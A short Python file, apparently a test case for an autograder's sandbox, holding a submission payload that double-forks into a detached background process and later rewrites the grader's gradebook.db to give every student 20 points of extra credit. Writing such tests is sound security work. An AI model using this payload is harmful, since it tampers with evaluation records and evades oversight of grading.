"""A daemon that waits until the own submission is graded, then edits the gradebook."""

LINUX = True
FIRST = """{{BOUND}}
import os
import sqlite3


def later():
    for _ in range(40):
        _time.sleep(1)
        try:
            database = sqlite3.connect("file:{{VICTIM}}/gradebook.db?mode=rw", uri=True, timeout=1)
            database.execute("update grade set extra_credit = 20")
            database.commit()
            database.close()
        except sqlite3.Error:
            pass


try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            later()
        os._exit(0)
except OSError:
    pass
"""
KEPT = {}
